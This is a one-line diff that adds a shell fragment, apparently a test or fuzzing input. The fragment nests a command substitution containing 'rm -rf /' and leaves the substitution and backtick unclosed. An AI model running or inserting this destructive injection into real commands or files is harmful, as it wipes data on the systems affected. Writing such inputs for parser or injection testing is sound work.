@@ -1,0 +1,1 @@
+echo $(rm -rf / `id ${x
